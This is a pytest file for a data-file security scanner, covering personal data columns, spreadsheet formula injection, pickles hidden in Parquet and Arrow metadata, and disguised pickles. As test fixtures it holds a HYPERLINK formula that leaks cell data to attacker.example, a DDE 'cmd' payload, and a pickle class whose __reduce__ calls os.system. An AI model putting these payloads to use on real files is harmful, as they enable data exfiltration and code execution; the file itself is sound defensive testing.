"""Data files: personal data columns, CSV formulas, pickles hidden in Parquet/Arrow metadata,
disguised pickles, and bad input reported without stopping the scan."""

from __future__ import annotations

import base64
import io
import json
import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.feather as feather
import pyarrow.parquet as pq
import pytest

from bastion.core import Finding, ScanResult, Severity
from bastion.registry import default_registry
from bastion.scan.data.checks import formula_columns, personal_data_columns
from bastion.scan.data.rules import DATA_RULES
from bastion.scan.data.sample import Column, SampleLimits, read_csv, read_jsonl
from bastion.scan.engine import ScanOptions, scan
from tests.conftest import inert_command

# Valid test values: Luhn-valid card numbers and IBANs with correct mod-97 checksums (the
# examples of the ECBS/SWIFT registry), which are not the processors' published test cards.
CARDS = ("4539 1488 0343 6467", "5425 2334 3010 9903", "3782 822463 10005")
IBANS = ("GB82WEST12345698765432", "DE89370400440532013000", "FR1420041010050500013M02606")


def _scan(root: Path) -> ScanResult:
    return scan(root, ScanOptions(workers=1))


def _data(result: ScanResult) -> list[Finding]:
    return [f for f in result.findings if f.rule_id.startswith("BST-DATA")]


def _write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    root = tmp_path / "repo"
    root.mkdir(parents=True, exist_ok=True)
    path = root / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    return root


class _Payload:
    """Pickles to a call that would create the marker file: proof it was never loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (self.command,))


def test_rules_are_registered_with_references() -> None:
    registry = default_registry()
    for rule in DATA_RULES:
        assert registry.rule(rule.id) == rule
        assert rule.references.cwe and rule.references.owasp and rule.references.atlas
        assert rule.description and rule.remediation


class TestCsv:
    def test_personal_data_columns(self, tmp_path: Path) -> None:
        rows = ["id,name,email,phone,card,iban,score"]
        for i, (card, iban) in enumerate(zip(CARDS, IBANS, strict=True)):
            rows.append(f"{i},Person {i},p{i}.doe@corp.io,+44 20 7946 09{i}8,{card},{iban},{i}.5")
        result = _scan(_write(tmp_path, "customers.csv", "\n".join(rows) + "\n"))
        found = {(f.properties["column"], f.severity, f.location.line) for f in _data(result)}
        assert found == {
            ("email", Severity.MEDIUM, 2),
            ("phone", Severity.MEDIUM, 2),
            ("card", Severity.HIGH, 2),
            ("iban", Severity.HIGH, 2),
        }
        for finding in _data(result):
            assert "corp.io" not in finding.evidence
            assert "6467" not in finding.evidence and "4539" not in finding.message

    def test_no_personal_data_no_finding(self, tmp_path: Path) -> None:
        text = "sepal_length,sepal_width,species\n5.1,3.5,setosa\n4.9,3.0,setosa\n"
        placeholders = "contact\nuser@example.com\nadmin@example.org\n"
        test_cards = "card_number\n4242 4242 4242 4242\n4111 1111 1111 1111\n"
        assert _data(_scan(_write(tmp_path, "iris.csv", text))) == []
        assert _data(_scan(_write(tmp_path / "b", "contacts.csv", placeholders))) == []
        assert _data(_scan(_write(tmp_path / "c", "cards.csv", test_cards))) == []

    def test_a_stray_address_in_free_text_is_not_a_column(self) -> None:
        cells = [(i + 2, f"review number {i} was fine") for i in range(30)]
        cells.append((40, "contact me at jo.doe@corp.io"))
        assert personal_data_columns([Column("review", cells)]) == []
        assert personal_data_columns([Column("email", cells)])  # the header says what it holds

    def test_tsv_and_semicolons_and_quoted_multiline_cells(self, tmp_path: Path) -> None:
        tsv = "name\temail\nAna\tana.l@corp.io\nBo\tbo.c@corp.io\n"
        semi = 'note;mail\n"line one\nline two";ana.l@corp.io\n"x";bo.c@corp.io\n'
        for name, text, line in (("people.tsv", tsv, 2), ("people.csv", semi, 2)):
            (finding,) = _data(_scan(_write(tmp_path / name, name, text)))
            assert finding.location.line == line and finding.properties["kind"] == "email"
        sample = read_csv(semi, ";")
        assert [line for line, _ in sample.columns[1].cells] == [2, 4]

    def test_formula_injection(self, tmp_path: Path) -> None:
        text = (
            "id,comment,delta\n"
            '1,"=HYPERLINK(""http://attacker.example/?leak=""&A2,""click"")",-5\n'
            "2,=cmd|' /C calc'!A0,+3\n"
            "3,=== section ===,-2.5\n"
            "4,plain,+1 415 555 0199\n"
        )
        (finding,) = _data(_scan(_write(tmp_path, "feedback.csv", text)))
        assert finding.rule_id == "BST-DATA-002" and finding.severity is Severity.MEDIUM
        assert finding.location.line == 2 and finding.properties["cells"] == 2
        low = _data(
            _scan(_write(tmp_path / "b", "sheet.csv", "a,b\n1,=SUM(A1:A3)\n2,@AVERAGE(B1)\n"))
        )
        assert [(f.rule_id, f.severity) for f in low] == [("BST-DATA-002", Severity.LOW)]

    def test_formula_detection_unit(self) -> None:
        cells = [(2, "-5"), (3, "+44 20 7946 0958"), (4, "@user mention"), (5, "=1+1"),
                 (6, "\t=WEBSERVICE(\"http://x\")")]  # fmt: skip
        (column,) = formula_columns([Column("c", cells)])
        assert (column.count, column.line, column.dangerous) == (1, 6, True)

    def test_secrets_in_cells_are_found_by_the_text_scan(self, tmp_path: Path) -> None:
        token = "hf_" + "Q8mZ2rT5vN1kP7wX3yB6cD9fG4hJ0lS2aE"
        result = _scan(_write(tmp_path, "runs.csv", f"run,token\n1,{token}\n"))
        secrets = [f for f in result.findings if f.rule_id.startswith("BST-SEC")]
        assert secrets and secrets[0].location.line == 2
        assert token not in json.dumps([f.evidence + f.message for f in secrets])


class TestJsonl:
    def test_fields_by_path(self, tmp_path: Path) -> None:
        lines = [json.dumps({"user": {"email": f"u{i}.x@corp.io", "id": i}, "text": "hi"})
                 for i in range(5)]  # fmt: skip
        (finding,) = _data(_scan(_write(tmp_path, "chats.jsonl", "\n".join(lines) + "\n")))
        assert finding.properties["column"] == "user.email" and finding.location.line == 1

    def test_not_json_lines_is_a_skip(self, tmp_path: Path) -> None:
        result = _scan(_write(tmp_path, "broken.jsonl", "{oops\nnot json either\n"))
        assert _data(result) == []
        assert any(s.reason.value == "malformed" for s in result.skipped)
        sample = read_jsonl('{"a": 1}\n[[[\n{"a": 2}\n')
        assert sample.rows == 2 and "1 line(s)" in sample.problems[0]


def _pickle_payload(marker_dir: Path) -> bytes:
    return pickle.dumps(_Payload(inert_command(marker_dir)), protocol=4)


class TestParquetAndArrow:
    def _table(self, marker_dir: Path) -> pa.Table:
        payload = _pickle_payload(marker_dir)
        schema = pa.schema(
            [pa.field("id", pa.int64()), pa.field("email", pa.string())],
            metadata={b"model_state": payload, b"encoded": base64.b64encode(payload)},
        )
        emails = [f"person{i}@corp.io" for i in range(20)]
        return pa.table([pa.array(range(20)), pa.array(emails)], schema=schema)

    @pytest.mark.parametrize("kind", ["parquet", "feather"])
    def test_pickles_in_metadata(self, tmp_path: Path, marker_dir: Path, kind: str) -> None:
        root = tmp_path / "repo"
        root.mkdir()
        table = self._table(marker_dir)
        if kind == "parquet":
            pq.write_table(table, root / "train.parquet")
        else:
            feather.write_feather(table, root / "train.feather")
        result = _scan(root)
        data = {(f.rule_id, f.properties.get("column")) for f in _data(result)}
        assert data == {("BST-DATA-003", None), ("BST-DATA-001", "email")}
        assert len([f for f in _data(result) if f.rule_id == "BST-DATA-003"]) == 2
        pickles = [f for f in result.findings if f.rule_id == "BST-PKL-001"]
        members = sorted(f.location.member or "" for f in pickles)
        fmt = "parquet" if kind == "parquet" else "arrow"
        assert members == [f"<{fmt}-metadata:encoded>", f"<{fmt}-metadata:model_state>"]
        assert all("system" in f.message for f in pickles)

    def test_pandas_metadata_is_json_not_a_finding(self, tmp_path: Path) -> None:
        import pandas as pd

        root = tmp_path / "repo"
        root.mkdir()
        pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}).to_parquet(root / "clean.parquet")
        result = _scan(root)
        assert _data(result) == [] and not [s for s in result.skipped if s.path == "clean.parquet"]

    def test_python_extension_type(self, tmp_path: Path, marker_dir: Path) -> None:
        payload = _pickle_payload(marker_dir)
        field = pa.field("feature", pa.int64(), metadata={
            b"ARROW:extension:name": b"arrow.py_extension_type",
            b"ARROW:extension:metadata": payload,
        })  # fmt: skip
        root = tmp_path / "repo"
        root.mkdir()
        pq.write_table(pa.table([pa.array([1, 2])], schema=pa.schema([field])), root / "x.parquet")
        result = _scan(root)
        assert [f.rule_id for f in _data(result)] == ["BST-DATA-004"]
        (pkl,) = [f for f in result.findings if f.rule_id == "BST-PKL-001"]
        assert pkl.location.member == "<parquet-metadata:column feature>"

    def test_secrets_in_parquet_cells(self, tmp_path: Path) -> None:
        token = "hf_" + "Q8mZ2rT5vN1kP7wX3yB6cD9fG4hJ0lS2aE"
        root = tmp_path / "repo"
        root.mkdir()
        pq.write_table(pa.table({"note": ["ok", f"use {token}"]}), root / "notes.parquet")
        result = _scan(root)
        secrets = [f for f in result.findings if f.rule_id.startswith("BST-SEC")]
        assert secrets and "row 2" in secrets[0].message and token not in secrets[0].message

    def test_large_files_are_sampled_and_say_so(self, tmp_path: Path) -> None:
        root = tmp_path / "repo"
        root.mkdir()
        rows = SampleLimits().max_rows + 10
        pq.write_table(pa.table({"n": pa.array(range(rows))}), root / "big.parquet")
        result = _scan(root)
        assert any("sampled" in s.detail for s in result.skipped if s.path == "big.parquet")


class TestBadInput:
    def test_truncated_and_lying_parquet(self, tmp_path: Path) -> None:
        buffer = io.BytesIO()
        pq.write_table(pa.table({"a": [1, 2, 3]}), buffer)
        data = buffer.getvalue()
        root = _write(tmp_path, "cut.parquet", data[: len(data) // 2])
        (root / "lying.parquet").write_bytes(data[:-8] + (10**9).to_bytes(4, "little") + b"PAR1")
        (root / "garbage.parquet").write_bytes(b"PAR1" + b"\xff" * 200 + b"\x10\x00\x00\x00PAR1")
        result = _scan(root)
        reasons = {s.path: s.detail for s in result.skipped}
        assert "PAR1 footer" in reasons["cut.parquet"]
        assert "more than the file holds" in reasons["lying.parquet"]
        assert "garbage.parquet" in reasons
        assert _data(result) == []

    def test_binary_with_csv_name_and_enormous_line(self, tmp_path: Path) -> None:
        root = _write(tmp_path, "blob.csv", b"\x00\x01\x02" * 1000)
        (root / "wide.csv").write_text("a,b\n" + "x" * 5_000_000 + ",ana.l@corp.io\n")
        (root / "ok.csv").write_text("email\nana.l@corp.io\n")
        result = _scan(root)
        assert [f.location.path for f in _data(result)] == ["ok.csv"]
        assert any(s.path == "wide.csv" for s in result.skipped)

    def test_pickle_disguised_as_csv_and_parquet(self, tmp_path: Path, marker_dir: Path) -> None:
        import pandas as pd

        frame = pd.DataFrame({"a": [1]})
        payload = pickle.dumps(_Payload(inert_command(marker_dir)), protocol=2)
        root = _write(tmp_path, "frame.csv", pickle.dumps(frame))
        (root / "frame.parquet").write_bytes(payload)
        result = _scan(root)
        disguised = {f.location.path for f in result.findings if f.rule_id == "BST-SCN-002"}
        assert disguised == {"frame.csv", "frame.parquet"}
        critical = [f for f in result.findings if f.rule_id == "BST-PKL-001"]
        assert [f.location.path for f in critical] == ["frame.parquet"]
